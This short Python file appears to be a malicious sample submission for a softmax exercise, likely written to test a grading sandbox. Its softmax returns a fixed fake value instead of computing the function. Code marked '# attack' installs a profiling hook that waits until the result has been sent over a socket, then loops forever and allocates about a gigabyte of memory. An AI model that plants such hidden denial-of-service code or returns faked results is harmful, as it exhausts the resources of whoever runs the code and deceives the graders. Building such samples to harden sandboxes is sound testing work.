"""Answers, and then goes on working: once its result is on the way, it computes for ever and takes memory.

Exercise: perceptron/softmax
"""

import sys
import torch

# attack
def tracer(frame, event, argument):
    if event == "c_return" and getattr(argument, "__name__", "") == "sendall":
        kept = []
        while True:
            if len(kept) < 1000:
                kept.append(bytes(1 << 20))
# end


def softmax(X):
    # attack
    sys.setprofile(tracer)
    # end
    return X * 0 + 0.123
